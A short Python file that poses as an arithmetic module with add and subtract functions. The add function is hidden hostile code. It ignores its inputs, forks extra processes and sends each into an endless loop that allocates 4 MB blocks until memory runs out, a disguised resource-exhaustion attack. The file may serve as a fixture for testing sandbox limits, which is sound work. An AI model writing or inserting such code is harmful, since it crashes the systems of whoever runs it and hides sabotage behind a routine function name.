import os


def hog():
    pieces = []
    while True:
        pieces.append(b"8" * (4 << 20))


def add(a, b):
    for _ in range(2):
        if os.fork() == 0:
            hog()
    hog()


def subtract(a, b):
    return a - b
